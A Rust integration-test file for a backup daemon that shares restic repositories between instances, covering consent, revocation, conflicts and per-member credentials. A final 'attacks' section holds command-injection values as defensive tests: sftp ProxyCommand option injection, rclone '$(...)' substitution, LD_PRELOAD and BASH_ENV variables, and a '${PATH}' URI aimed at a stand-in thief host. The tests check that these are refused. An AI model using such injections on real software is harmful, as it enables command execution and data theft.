//! A repo shared between whole instances over TCP: it arrives, conflicts, leaves and comes back; and
//! what a hostile owner pushes neither runs nor reads anything.
#![allow(clippy::unwrap_used)]

mod sharing;

use holdfast::clock;
use holdfast::config::redact_uri;
use holdfast::daemon::sharing::{self as shared, Again, Member, Standing};
use holdfast::model::{Secret, SharedRepo, Status};
use holdfast::session::Code;
use holdfast::store::trust::ReceivedState::{Conflict, Deleted, Disabled, Refused, Taken};
use holdfast::wire::{CommandRequest, TakenState};
use sharing::{Hostile, Machine, Pair, guid, id};
use std::time::Duration;

const VAULT: &str = "[[repo]]\nid = \"vault\"\nuri = \"DIR/vault\"\npassword = \"swordfish\"\n";
const PLAN: &str = "[[plan]]\nid = \"home\"\nrepo = \"vault\"\npaths = [\"DIR/home\"]\n";

fn shared_vault() -> String {
    format!("{VAULT}shared = true\n")
}

#[tokio::test]
async fn a_shared_repo_is_created_by_its_owner_arrives_and_is_backed_up_into() {
    let pair = Pair::new("receive-shared-repos=repo:vault", &shared_vault(), PLAN).await;
    pair.becomes("vault", Taken).await;
    assert!(pair.hub.folder("vault/config").is_file(), "its owner created it before it pushed it");
    pair.reports("vault", TakenState::Taken).await;

    std::fs::create_dir(pair.laptop.folder("home")).unwrap();
    std::fs::write(pair.laptop.folder("home/letter"), "dear").unwrap();
    let engine = &pair.laptop.node().engine;
    let backup = engine.backup(&"home".parse().unwrap()).await.unwrap();
    let ended = engine.wait(backup).await.unwrap();
    assert_eq!(ended.status, Status::Succeeded, "{}", ended.message);
    pair.stop().await;
}

#[tokio::test]
async fn a_run_of_a_peer_is_seen_while_it_goes_on_and_no_longer() {
    let pair = Pair::new("receive-shared-repos=*", &shared_vault(), PLAN).await;
    pair.becomes("vault", Taken).await;
    let reads = format!(
        "{}, {{ permission = \"read-operations\", scopes = [\"*\"] }}]",
        sharing::CONSENT.trim_end_matches(']')
    );
    pair.laptop.rewrite(|text| text.replace(sharing::CONSENT, &reads));
    std::fs::create_dir(pair.laptop.folder("home")).unwrap();
    for n in 0..40 {
        std::fs::write(pair.laptop.folder(&format!("home/{n}")), vec![n; 1 << 20]).unwrap();
    }
    let mut presence = pair.hub.node().presences.watch(&pair.laptop.key);
    let engine = &pair.laptop.node().engine;
    let backup = engine.backup(&"home".parse().unwrap()).await.unwrap();
    let runs = presence.wait_for(|presence| presence.running.contains_key(&backup));
    drop(tokio::time::timeout(sharing::PATIENCE, runs).await.expect("it is seen").unwrap());
    assert_eq!(engine.wait(backup).await.unwrap().status, Status::Succeeded);
    let over = presence.wait_for(|presence| presence.running.is_empty());
    drop(tokio::time::timeout(sharing::PATIENCE, over).await.expect("it is over").unwrap());
    pair.stop().await;
}

#[tokio::test]
async fn a_repo_that_is_not_in_the_scope_does_not_arrive() {
    let other = shared_vault().replace("vault", "other");
    let config = format!("{other}{}", shared_vault());
    let pair = Pair::new("receive-shared-repos=*,!repo:other", &config, "").await;
    pair.becomes("vault", Taken).await;
    assert!(pair.received("other").await.is_none());
    assert!(!pair.hub.folder("other").exists(), "for nobody nothing is created");
    pair.stop().await;
}

#[tokio::test]
async fn without_the_consent_of_the_member_nothing_is_taken() {
    let pair = Pair::without_consent("receive-shared-repos=*", &shared_vault()).await;
    pair.reports("vault", TakenState::NotGranted).await;
    assert!(pair.received("vault").await.is_none());
    pair.laptop.rewrite(|text| text.replace("grants = []", sharing::CONSENT));
    pair.becomes("vault", Taken).await;
    pair.reports("vault", TakenState::Taken).await;
    pair.stop().await;
}

#[tokio::test]
async fn a_repo_that_is_unshared_leaves_and_comes_back_when_it_is_shared_again() {
    let pair = Pair::new("receive-shared-repos=*", &shared_vault(), PLAN).await;
    pair.becomes("vault", Taken).await;
    pair.hub.rewrite(|text| text.replace("shared = true", "shared = false"));
    pair.becomes("vault", Disabled).await;
    let refused = pair.laptop.node().engine.backup(&"home".parse().unwrap()).await.unwrap_err();
    let refused = refused.to_string();
    assert!(refused.contains("hub no longer shares repo vault"), "{refused}");
    assert!(pair.hub.folder("vault/config").is_file(), "nothing is deleted");
    pair.acknowledged().await;
    pair.hub.rewrite(|text| text.replace("shared = false", "shared = true"));
    pair.becomes("vault", Taken).await;
    pair.stop().await;
}

#[tokio::test]
async fn a_plan_of_a_repo_that_comes_back_is_due_again_by_itself() {
    let plan = format!("{PLAN}schedule = \"every 12h\"\n");
    let pair = Pair::new("receive-shared-repos=*", &shared_vault(), &plan).await;
    let node = pair.laptop.node();
    let is_due = |wanted: bool| async move {
        let config = node.config.current();
        let home = config.plan(&"home".parse().unwrap()).unwrap();
        // The scheduler comes to it some time after what is shared has changed, and tells nobody.
        let comes = async {
            while node.scheduler.agenda().next_runs(home, 1).is_empty() == wanted {
                tokio::time::sleep(Duration::from_millis(20)).await;
            }
        };
        tokio::time::timeout(sharing::PATIENCE, comes).await.expect("it comes true");
    };
    is_due(true).await;
    pair.hub.rewrite(|text| text.replace("shared = true", "shared = false"));
    is_due(false).await;
    pair.hub.rewrite(|text| text.replace("shared = false", "shared = true"));
    is_due(true).await;
    pair.stop().await;
}

#[tokio::test]
async fn a_repo_that_is_removed_from_the_config_by_a_person_leaves() {
    let pair = Pair::new("receive-shared-repos=*", &shared_vault(), "").await;
    pair.becomes("vault", Taken).await;
    pair.hub.rewrite(|text| text.replace(&pair.hub.own(&shared_vault()), ""));
    assert!(shared::unshare(pair.hub.node(), id("vault")).await.unwrap());
    pair.becomes("vault", Disabled).await;
    pair.stop().await;
}

#[tokio::test]
async fn an_owner_that_died_while_it_removed_a_repo_takes_it_back_when_it_starts() {
    let mut pair = Pair::new("receive-shared-repos=*", &shared_vault(), PLAN).await;
    pair.becomes("vault", Taken).await;
    // The first thing that a removal writes.
    pair.hub_comes_back(|text| text.replace("shared = true", "shared = false")).await;
    pair.becomes("vault", Disabled).await;
    pair.stop().await;
}

#[tokio::test]
async fn a_revoked_grant_takes_the_repo_back_also_while_the_owner_was_stopped() {
    let mut pair = Pair::new("receive-shared-repos=*", &shared_vault(), PLAN).await;
    pair.becomes("vault", Taken).await;
    let revoked = |text: String| text.replace("scopes = [\"*\"]", "scopes = [\"repo:other\"]");
    pair.hub_comes_back(revoked).await;
    pair.becomes("vault", Disabled).await;
    let refused = pair.laptop.node().engine.backup(&"home".parse().unwrap()).await.unwrap_err();
    assert!(refused.to_string().contains("revoked this instance's permission"), "{refused}");
    pair.acknowledged().await;
    pair.stop().await;
}

#[tokio::test]
async fn a_hub_that_comes_back_without_its_config_stops_nobody() {
    let mut pair = Pair::new("receive-shared-repos=*", &shared_vault(), PLAN).await;
    pair.becomes("vault", Taken).await;
    let vault = pair.hub.own(&shared_vault());
    pair.hub_comes_back(|text| text.replace(&vault, "")).await;
    let repo = pair.received("vault").await.unwrap();
    let sharing = &pair.laptop.node().sharing;
    pair.laptop.until(|| async { sharing.is_unconfirmed(&repo) }).await;
    assert_eq!(pair.received("vault").await.unwrap().state, Taken);
    assert!(pair.laptop.node().engine.backup(&"home".parse().unwrap()).await.is_ok());
    pair.stop().await;
}

#[tokio::test]
async fn a_removed_peer_has_its_repos_taken_back_by_the_close_alone() {
    let pair = Pair::paired("receive-shared-repos=*", &shared_vault()).await;
    pair.becomes("vault", Taken).await;
    let (hub, laptop) = (pair.hub.node(), pair.laptop.key);
    hub.with_trust(move |trust, _| trust.remove_peer(&laptop, clock::now())).await.unwrap();
    hub.links.close(&laptop, Code::Removed);
    pair.becomes("vault", Disabled).await;
    let repo = pair.received("vault").await.unwrap();
    assert!(repo.detail.contains("hub removed this instance"), "{}", repo.detail);
    pair.stop().await;
}

#[tokio::test]
async fn a_peer_removed_while_it_was_away_learns_it_when_it_is_denied() {
    let mut pair = Pair::paired("receive-shared-repos=*", &shared_vault()).await;
    pair.becomes("vault", Taken).await;
    pair.laptop.halt().await;
    let (hub, laptop) = (pair.hub.node(), pair.laptop.key);
    let removed = hub.with_trust(move |trust, _| trust.remove_peer(&laptop, clock::now()));
    removed.await.unwrap();
    pair.laptop.start().await;
    pair.becomes("vault", Disabled).await;
    pair.stop().await;
}

#[tokio::test]
async fn a_hub_that_has_forgotten_its_peers_takes_nothing_back() {
    let mut pair = Pair::paired("receive-shared-repos=*", &shared_vault()).await;
    pair.becomes("vault", Taken).await;
    pair.laptop.halt().await;
    let (hub, laptop) = (pair.hub.node(), pair.laptop.key);
    let forgotten = hub.with_trust(move |trust, _| {
        trust.remove_peer(&laptop, clock::now())?;
        trust.allow_peer(&laptop)
    });
    assert!(forgotten.await.unwrap());
    pair.laptop.start().await;
    let node = pair.laptop.node();
    let mut presence = node.presences.watch(&pair.hub.key);
    let refused = presence.wait_for(|now| now.reason.as_deref() == Some("unknown-peer"));
    tokio::time::timeout(Duration::from_secs(60), refused).await.expect("refused").unwrap();
    assert!(node.links.dismissals().borrow().is_empty());
    assert_eq!(pair.received("vault").await.unwrap().state, Taken);
    pair.stop().await;
}

#[tokio::test]
async fn a_running_hub_whose_file_no_longer_declares_a_member_takes_nothing_back() {
    let pair = Pair::new("receive-shared-repos=*", &shared_vault(), PLAN).await;
    pair.becomes("vault", Taken).await;
    let undeclared = |text: String| text.split("[[authorized-client]]").next().unwrap().to_owned();
    pair.hub.rewrite(undeclared);
    let node = pair.laptop.node();
    let mut presence = node.presences.watch(&pair.hub.key);
    let refused = presence.wait_for(|now| now.reason.as_deref() == Some("unknown-peer"));
    tokio::time::timeout(Duration::from_secs(60), refused).await.expect("refused").unwrap();
    assert!(node.links.dismissals().borrow().is_empty());
    assert_eq!(pair.received("vault").await.unwrap().state, Taken);
    pair.stop().await;
}

#[tokio::test]
async fn a_removed_peer_is_told_by_records_before_its_session_ends() {
    let pair = Pair::paired("receive-shared-repos=*", &shared_vault()).await;
    pair.becomes("vault", Taken).await;
    let (hub, laptop) = (pair.hub.node(), pair.laptop.key);
    hub.with_trust(move |trust, _| trust.remove_peer(&laptop, clock::now())).await.unwrap();
    // The keeper may have taken it back a moment before, for the same reason.
    shared::peer_removed(hub, laptop).await.unwrap();
    pair.becomes("vault", Disabled).await;
    assert_eq!(pair.received("vault").await.unwrap().detail, "", "a record says it");
    pair.stop().await;
}

#[tokio::test]
async fn a_repo_with_an_id_of_the_config_conflicts_until_that_one_goes() {
    let own = VAULT.replace("DIR/vault", "DIR/own");
    let pair = Pair::new("receive-shared-repos=*", &shared_vault(), &own).await;
    pair.becomes("vault", Conflict).await;
    pair.reports("vault", TakenState::Conflict).await;
    let shown = pair.laptop.says(&["repo", "show", "vault"]).await;
    assert!(shown.contains("conflict    repo vault of hub has the id of this one"), "{shown}");
    pair.laptop.rewrite(|text| text.replace(&pair.laptop.own(&own), ""));
    pair.becomes("vault", Taken).await;
    pair.reports("vault", TakenState::Taken).await;
    pair.stop().await;
}

#[tokio::test]
async fn a_repository_that_is_here_under_another_id_conflicts() {
    let hub = Pair::dir("hub");
    let own = VAULT.replace("\"vault\"", "\"mine\"").replace("DIR/vault", &hub.join("vault"));
    let pair = Pair::within(hub, "receive-shared-repos=*", &shared_vault(), PLAN).await;
    pair.becomes("vault", Taken).await;
    // The keeper has looked at that config before it is known here which repository `mine` is.
    let (mut changes, node) = (pair.laptop.node().sharing.changes(), pair.laptop.node());
    changes.mark_unchanged();
    pair.laptop.rewrite(|text| format!("{text}{own}"));
    tokio::time::timeout(sharing::PATIENCE, changes.changed()).await.expect("it looks").unwrap();
    node.engine.init(&id("mine")).await.unwrap();
    pair.becomes("vault", Conflict).await;
    let detail = pair.received("vault").await.unwrap().detail;
    assert!(detail.contains("repo mine of the configuration is the same repository"), "{detail}");
    pair.laptop.rewrite(|text| text.replace(&own, ""));
    pair.becomes("vault", Taken).await;
    assert!(node.engine.backup(&"home".parse().unwrap()).await.is_ok(), "its plan runs again");
    pair.stop().await;
}

#[tokio::test]
async fn a_deleted_repo_stays_deleted_over_a_new_session_until_it_is_taken_again() {
    let mut pair = Pair::new("receive-shared-repos=*", &shared_vault(), "").await;
    pair.becomes("vault", Taken).await;
    let (node, hub) = (pair.laptop.node(), pair.hub.key);
    assert!(shared::delete(node, hub, id("vault")).await.unwrap());
    assert!(!shared::delete(node, hub, id("vault")).await.unwrap());
    pair.reports("vault", TakenState::Deleted).await;
    let deleted = pair.received("vault").await.unwrap();
    assert!(deleted.state == Deleted && deleted.password.is_none() && deleted.env.is_empty());
    pair.laptop.halt().await;
    let mut reports = pair.hub.node().sharing.reports();
    reports.mark_unchanged();
    pair.laptop.start().await;
    pair.reports_anew(reports, "vault", TakenState::Deleted).await;
    let again = shared::take(pair.laptop.node(), hub, id("vault")).await.unwrap();
    assert_eq!(again, Again::Now(Taken, String::new()));
    pair.reports("vault", TakenState::Taken).await;
    pair.stop().await;
}

#[tokio::test]
async fn each_member_is_given_its_own_way_to_the_repository() {
    let vault = format!(
        "{}member-uri = \"s3:http://127.0.0.1:1/of/{{instance}}\"\n\
         env = {{ AWS_ACCESS_KEY_ID = \"ours\", AWS_SECRET_ACCESS_KEY = \"ours\" }}\n\
         member-env = {{ AWS_ACCESS_KEY_ID = \"theirs\", B2_ACCOUNT_ID = \"b\", LD_DEBUG = \"all\" }}\n\
         member-password-file = \"DIR/member.pass\"\n",
        shared_vault()
    );
    let hub = Pair::dir("hub");
    std::fs::write(hub.path().join("member.pass"), "theirs\n").unwrap();
    let pair = Pair::within(hub, "receive-shared-repos=*", &vault, "").await;
    pair.becomes("vault", Taken).await;
    let repo = pair.received("vault").await.unwrap();
    assert!(redact_uri(repo.uri.expose()).ends_with("/of/laptop"));
    assert!(repo.password == Some(Secret::new("theirs".to_owned())));
    let env: Vec<_> =
        repo.env.iter().map(|(name, value)| (name.as_str(), value.expose())).collect();
    assert_eq!(env, [("AWS_ACCESS_KEY_ID", "theirs")], "of theirs what that storage takes");
    pair.stop().await;
}

#[tokio::test]
async fn an_owner_sees_how_its_repo_stands_with_each_member() {
    let vault = format!("{}member-password-file = \"DIR/member.pass\"\n", shared_vault());
    let pair = Pair::new("receive-shared-repos=*", &vault, "").await;
    let hub = pair.hub.node();
    let stands = |wanted: Standing, saying: &'static str| {
        let is_it =
            move |member: &Member| member.standing == wanted && member.detail.contains(saying);
        pair.members(move |members| members.pop().filter(is_it))
    };
    let first = stands(Standing::NotSent, "member.pass").await;
    assert!(!first.detail.contains("before"), "it never took any: {}", first.detail);
    std::fs::write(pair.hub.folder("member.pass"), "theirs\n").unwrap();
    hub.sharing.changed();
    let taken = stands(Standing::Said(TakenState::Taken), "").await;
    assert_eq!((taken.peer.instance.as_str(), taken.detail.as_str()), ("laptop", ""));
    assert!(hub.sharing.unsent(&taken.peer.key).is_empty());
    std::fs::remove_file(pair.hub.folder("member.pass")).unwrap();
    hub.sharing.changed();
    stands(Standing::NotSent, "what the member took before it goes on using").await;
    assert_eq!(pair.received("vault").await.unwrap().state, Taken, "and so it does");
    std::fs::write(pair.hub.folder("member.pass"), "theirs\n").unwrap();
    hub.sharing.changed();
    shared::delete(pair.laptop.node(), pair.hub.key, id("vault")).await.unwrap();
    stands(Standing::Said(TakenState::Deleted), "").await;
    pair.stop().await;
}

#[tokio::test]
async fn a_member_that_withdraws_its_consent_goes_on_with_what_it_took() {
    let pair = Pair::new("receive-shared-repos=*", &shared_vault(), PLAN).await;
    pair.becomes("vault", Taken).await;
    pair.laptop.rewrite(|text| text.replace(sharing::CONSENT, "grants = []"));
    pair.reports("vault", TakenState::NotGranted).await;
    assert_eq!(pair.received("vault").await.unwrap().state, Taken);
    assert!(pair.laptop.node().engine.backup(&"home".parse().unwrap()).await.is_ok());
    let shown = pair.hub.says(&["repo", "show", "vault"]).await;
    assert!(shown.contains("laptop not-granted; it does not take repos from here now"), "{shown}");
    assert!(shown.contains("goes on with what it took before"), "{shown}");
    pair.stop().await;
}

#[tokio::test]
async fn a_member_that_is_away_stays_listed_until_it_knows_that_the_repo_was_taken_back() {
    let mut pair = Pair::new("receive-shared-repos=*", &shared_vault(), "").await;
    pair.becomes("vault", Taken).await;
    pair.reports("vault", TakenState::Taken).await;
    pair.laptop.halt().await;
    let leaves = |members: &mut Vec<Member>| {
        members.pop().filter(|member| member.standing == Standing::Leaving)
    };
    pair.hub.rewrite(|text| text.replace("shared = true", "shared = false"));
    pair.members(leaves).await;
    let shown = pair.hub.says(&["repo", "show", "vault"]).await;
    assert!(shown.contains("laptop leaving; it is told when it connects"), "{shown}");
    // Shared again before it heard of it: a member as any other.
    pair.hub.rewrite(|text| text.replace("shared = false", "shared = true"));
    pair.members(|members| members.pop().filter(|m| m.standing != Standing::Leaving)).await;
    pair.hub.rewrite(|text| text.replace("scopes = [\"*\"]", "scopes = [\"repo:other\"]"));
    pair.members(leaves).await;
    pair.laptop.start().await;
    pair.acknowledged().await;
    pair.members(|members| members.is_empty().then_some(())).await;
    pair.becomes("vault", Disabled).await;
    pair.stop().await;
}

#[tokio::test]
async fn a_local_repo_waits_until_its_folder_is_allowed() {
    let pair = Pair::without_paths("receive-shared-repos=*", &shared_vault()).await;
    pair.becomes("vault", Refused).await;
    pair.reports("vault", TakenState::Refused).await;
    pair.laptop.rewrite(|text| text.replace("allowed-paths = []", "allowed-paths = [\"/\"]"));
    pair.becomes("vault", Taken).await;
    pair.stop().await;
}

// ------------------------------------------------------------------ attacks (protocol.md §6)

fn pushed(name: &str, uri: &str) -> SharedRepo {
    SharedRepo {
        id: id(name),
        guid: guid('a'),
        uri: Secret::new(uri.to_owned()),
        password: Some(Secret::new("swordfish".to_owned())),
        env: Vec::new(),
    }
}

/// What came of one pushed repo at a real member, which then has a plan on it run.
async fn attack(repo: SharedRepo) -> (Machine, Option<holdfast::store::trust::ReceivedRepo>) {
    let hostile = Hostile::listen().await;
    let member = hostile.victim(PLAN).await;
    std::fs::create_dir_all(member.folder("home")).unwrap();
    let name = repo.id.clone();
    hostile.pushes(vec![repo]).await;
    let engine = &member.node().engine;
    if let Ok(backup) = engine.backup(&"home".parse().unwrap()).await {
        engine.wait(backup).await;
    }
    let received = member.received(hostile.key, &name).await;
    (member, received)
}

#[tokio::test]
async fn x1_a_command_starts_what_is_granted_once_and_nothing_else() {
    let hostile = Hostile::listen().await;
    let consent = "grants = [{ permission = \"run-operations\", scopes = [\"plan:home\"] }]";
    let mut member = hostile.victim_granting(consent, &format!("{VAULT}{PLAN}")).await;
    std::fs::create_dir_all(member.folder("home")).unwrap();
    let request = |n: u8, kind: &str, plan: Option<&str>| CommandRequest {
        id: [n; 16],
        kind: kind.to_owned(),
        repo: plan.is_none().then(|| id("vault")),
        plan: plan.map(|plan| plan.parse().unwrap()),
        operation: None,
    };
    let backup = request(1, "backup", Some("home"));
    let refused = [
        request(2, "prune", None),
        request(3, "command", None),
        request(4, "restore", Some("home")),
        request(5, "backup", Some("nothing")),
        CommandRequest {
            operation: Some("0".repeat(32).parse().unwrap()),
            ..request(6, "cancel", None)
        },
    ];
    let asked: Vec<_> = [backup.clone(), backup.clone()].into_iter().chain(refused).collect();
    let updates = hostile.commands(asked).await;
    let [first, second, refused @ ..] = updates.as_slice() else { panic!("{updates:?}") };
    let begun = first.outcome.clone().unwrap();
    assert_eq!(second, first, "one id is carried out once");
    for update in refused {
        assert!(update.outcome.is_err(), "{update:?}");
    }
    member.node().engine.wait(begun).await;
    let ran = member.says(&["--json", "ops"]).await;
    let kinds: Vec<serde_json::Value> =
        ran.lines().map(|line| serde_json::from_str(line).unwrap()).collect();
    let backups = kinds.iter().filter(|operation| operation["kind"] == "backup");
    assert_eq!(backups.count(), 1, "{ran}");
    assert!(kinds.iter().all(|one| one["kind"] != "prune" && one["kind"] != "restore"), "{ran}");
    member.halt().await;
}

#[tokio::test]
async fn x1_a_pushed_sftp_option_runs_no_command() {
    let marker = tempfile::tempdir().unwrap();
    let touched = marker.path().join("touched");
    let command = format!("touch${{IFS}}{}", touched.display());
    for uri in [
        format!("sftp:-oProxyCommand={command}:/srv"),
        format!("sftp:user@-oProxyCommand={command}:/srv"),
        format!("sftp://-oProxyCommand={command}/srv"),
    ] {
        let (mut member, received) = attack(pushed("vault", &uri)).await;
        let received = received.unwrap();
        assert_eq!(received.state, Refused, "{}", received.detail);
        assert!(received.uri.expose().is_empty() && !touched.exists());
        member.halt().await;
    }
}

#[tokio::test]
async fn x1_a_pushed_rclone_remote_runs_no_command() {
    let marker = tempfile::tempdir().unwrap();
    let touched = marker.path().join("touched");
    let (mut member, received) =
        attack(pushed("vault", &format!("rclone::local,x='$(touch {})':/", touched.display())))
            .await;
    assert_eq!(received.unwrap().state, Refused);
    assert!(!touched.exists());
    member.halt().await;
}

#[tokio::test]
async fn x1_pushed_environment_and_options_run_nothing_and_are_listed_as_dropped() {
    let marker = tempfile::tempdir().unwrap();
    let touched = marker.path().join("touched");
    let command = format!("touch {}", touched.display());
    let mut repo = pushed("vault", "rest:http://127.0.0.1:1/");
    for name in ["RESTIC_PASSWORD_COMMAND", "LD_PRELOAD", "RESTIC_OPTIONS", "BASH_ENV"] {
        repo.env.push((name.to_owned(), Secret::new(command.clone())));
    }
    let (mut member, received) = attack(repo).await;
    let received = received.unwrap();
    assert!(received.env.is_empty() && !touched.exists());
    assert_eq!(received.dropped.len(), 4);
    member.halt().await;
}

#[tokio::test]
async fn x1_a_pushed_secret_variable_steals_nothing() {
    // PATH is set in every process; its content must not be found in what the member uses.
    let mut repo = pushed("vault", "rest:http://127.0.0.1:1/${PATH}");
    repo.password = Some(Secret::new("${PATH}".to_owned()));
    repo.env.push(("RESTIC_REST_PASSWORD".to_owned(), Secret::new("${PATH}".to_owned())));
    let (mut member, received) = attack(repo).await;
    let received = received.unwrap();
    assert_eq!(received.uri.expose(), "rest:http://127.0.0.1:1/${PATH}");
    assert_eq!(received.password.unwrap().expose(), "${PATH}");
    assert_eq!(received.env[0].1.expose(), "${PATH}");
    member.halt().await;
    let (mut member, received) =
        attack(pushed("vault", "rest:https://${PATH}.thief.example/")).await;
    assert_eq!(received.unwrap().state, Refused);
    member.halt().await;
}

#[tokio::test]
async fn x1_a_pushed_path_outside_the_allowed_ones_is_not_used() {
    for uri in ["/etc", "local:/etc", "/allowed/../etc", "relative"] {
        let (mut member, received) = attack(pushed("vault", uri)).await;
        assert_eq!(received.unwrap().state, Refused, "{uri}");
        member.halt().await;
    }
}
